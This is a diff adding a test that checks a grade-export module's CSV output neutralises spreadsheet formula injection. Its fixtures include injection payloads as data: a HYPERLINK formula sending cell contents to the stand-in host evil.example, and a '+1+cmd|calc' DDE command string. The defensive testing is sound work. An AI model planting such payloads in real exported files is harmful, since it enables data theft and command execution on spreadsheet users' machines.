@@ -4,7 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, describe, test } from 'node:test';
 import { Store } from './index';
-import { gradesToCsv, gradesToJson } from './grade-export';
+import { classGradesToCsv, csvField, gradesToCsv, gradesToJson } from './grade-export';
 
 const dir = mkdtempSync(join(tmpdir(), 'drydock-export-test-'));
 after(() => rmSync(dir, { recursive: true, force: true }));
@@ -42,6 +42,28 @@ describe('grade export', () => {
   test('CSV quotes fields that need it', () => {
     const csv = gradesToCsv([{ learnerId: 'a,"b"', lessonId: 'l', exerciseId: 'e', attempts: 1, passed: true, firstPassedAt: null, lastAttemptAt: 0 }]);
     assert.match(csv, /^"a,""b""",l,e,yes,1,,1970-01-01T00:00:00.000Z\r$/m);
+  });
+
+  test('CSV neutralises text a spreadsheet would run as a formula (a leading \' ), then quotes as usual', () => {
+    for (const [given, written] of [
+      ['=HYPERLINK("http://evil.example/?"&A1,"Ann")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Ann"")"`],
+      ['+1+cmd|calc', "'+1+cmd|calc"],
+      ['-2+3', "'-2+3"],
+      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+      ['\t=1', "'\t=1"],
+      ['\r=1', `"'\r=1"`],
+      ['Ann = Bob', 'Ann = Bob'],
+      ['2026-11-22T09:00:00.000Z', '2026-11-22T09:00:00.000Z'],
+    ]) {
+      assert.equal(csvField(given!), written, JSON.stringify(given));
+    }
+    const csv = classGradesToCsv('=1+1', [
+      { learnerId: 'l1', displayName: '=HYPERLINK("http://evil.example","x")', lessonId: 'l', exerciseId: 'e', passed: false, attempts: 0, firstPassedAt: null, lastAttemptAt: null },
+    ]);
+    const row = csv.split('\r\n')[1]!;
+    assert.equal(row, `'=1+1,"'=HYPERLINK(""http://evil.example"",""x"")",l1,l,e,no,0,,`);
+    // No field of the row starts with a formula character once the quoting is undone.
+    assert.ok(!/(^|,)"?[=+\-@]/.test(row), row);
   });
 
   test('JSON carries the same rows with ISO times', () => {
